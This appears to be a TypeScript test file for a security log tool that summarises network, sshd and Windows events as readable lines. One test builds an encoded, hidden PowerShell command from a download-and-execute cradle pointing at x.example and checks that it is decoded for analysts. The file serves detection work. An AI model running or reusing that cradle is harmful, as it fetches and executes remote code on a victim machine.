import { readdirSync } from 'node:fs';
import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import type { Event } from '../../core/index.js';
import { collectAll } from '../collect-all.js';
import { decodedPowerShell, describeEvent, eventSourceName, humanBytes } from './describe-event.js';

const fixtures = new URL('../__fixtures__/', import.meta.url).pathname;
const files = ['generic', 'splunk', 'suricata', 'syslog', 'windows', 'zeek'].flatMap((folder) =>
  readdirSync(`${fixtures}${folder}`)
    .filter((name) => !name.endsWith('.yaml'))
    .map((name) => `${fixtures}${folder}/${name}`),
);

const base: Event = {
  id: 'e',
  timestamp: '2024-11-05T10:00:00.000Z',
  origin: { format: 'zeek-tsv', dataset: 'conn' },
  kind: 'event',
  category: ['network'],
  outcome: 'unknown',
  observables: [],
  fields: {},
  raw: '',
};

describe('event summaries', async () => {
  const events = (await Promise.all(files.map(async (file) => (await collectAll([file])).events))).flat();

  it('gives every recorded fixture event of every format one readable line', () => {
    expect(new Set(events.map((event) => event.origin.format)).size).toBeGreaterThanOrEqual(8);
    for (const event of events) {
      const line = describeEvent(event);
      expect(line.length).toBeGreaterThan(8);
      expect(line.length).toBeLessThanOrEqual(240);
      expect(line).not.toMatch(/[\u0000-\u001f]/);
      // a Zeek connection state alone says nothing
      expect(line).not.toMatch(/^(SF|S0|REJ|OTH)$/);
    }
  });

  it('writes a connection as endpoints, transport, service and size', () => {
    const line = describeEvent({
      ...base,
      action: 'SF',
      source: { ip: '10.1.2.45', port: 51234 },
      destination: { ip: '203.0.113.66', port: 443 },
      network: { transport: 'tcp', protocol: 'ssl', bytes: 1229 },
    });
    expect(line).toBe('10.1.2.45:51234 → 203.0.113.66:443 tcp ssl 1.2 KB');
    const refused = events.find((event) => event.origin.dataset === 'conn' && event.action === 'S0');
    expect(describeEvent(refused!)).toContain('(no reply)');
  });

  it('writes an sshd line with its program and a Windows logon with account, origin and type', () => {
    const failed = events.find((event) => event.origin.format === 'syslog' && event.action === 'invalid-user');
    expect(describeEvent(failed!)).toBe(
      'sshd: Failed password for invalid user admin from 198.51.100.23 port 40000 ssh2',
    );
    const logon = events.find((event) => event.code === '4624');
    expect(describeEvent(logon!)).toMatch(
      /^logon of CORP\\bob to WS01\.corp\.example from .*198\.51\.100\.23.*network logon/,
    );
  });

  it('decodes an encoded PowerShell command', () => {
    const encoded = Buffer.from(
      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
      'utf16le',
    ).toString('base64');
    const line = describeEvent({
      ...base,
      origin: { format: 'windows-json' },
      category: ['process'],
      action: 'process-created',
      process: {
        executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        commandLine: `powershell.exe -NoP -W Hidden -Enc ${encoded}`,
      },
    });
    expect(line).toContain('(decoded: IEX (New-Object Net.WebClient).DownloadString(');
    expect(decodedPowerShell('powershell.exe -ExecutionPolicy Bypass -File a.ps1')).toBeUndefined();
    expect(decodedPowerShell('powershell -e !!!notbase64')).toBeUndefined();
  });

  it('writes sizes people read', () => {
    expect(humanBytes(512)).toBe('512 B');
    expect(humanBytes(1607)).toBe('1.6 KB');
    expect(humanBytes(5 * 1024 * 1024)).toBe('5.0 MB');
  });

  test.prop([
    fc.record({
      message: fc.option(fc.string({ maxLength: 300 }), { nil: undefined }),
      action: fc.option(fc.string({ maxLength: 20 }), { nil: undefined }),
      commandLine: fc.option(fc.string({ maxLength: 300 }), { nil: undefined }),
      ip: fc.option(fc.string({ maxLength: 40 }), { nil: undefined }),
    }),
  ])('never throws and stays one short line on attacker-written fields', ({ message, action, commandLine, ip }) => {
    const line = describeEvent({
      ...base,
      ...(message !== undefined ? { message } : {}),
      ...(action !== undefined ? { action } : {}),
      ...(commandLine !== undefined ? { process: { commandLine } } : {}),
      ...(ip !== undefined ? { destination: { ip } } : {}),
    });
    expect(line.length).toBeLessThanOrEqual(240);
    expect(line).not.toMatch(/[\r\n]/);
  });
});

describe('event source names', () => {
  it('shortens Windows channels and names Zeek and Suricata logs', () => {
    const of = (format: Event['origin']['format'], dataset?: string) =>
      eventSourceName({ ...base, origin: { format, ...(dataset ? { dataset } : {}) } });
    expect(of('windows-json', 'Microsoft-Windows-Sysmon/Operational')).toBe('sysmon');
    expect(of('windows-json', 'Security')).toBe('security');
    expect(of('splunk-json', 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational')).toBe('sysmon');
    expect(of('zeek-tsv', 'conn')).toBe('zeek conn');
    expect(of('suricata-eve', 'alert')).toBe('suricata alert');
    expect(of('csv')).toBe('csv');
  });
});
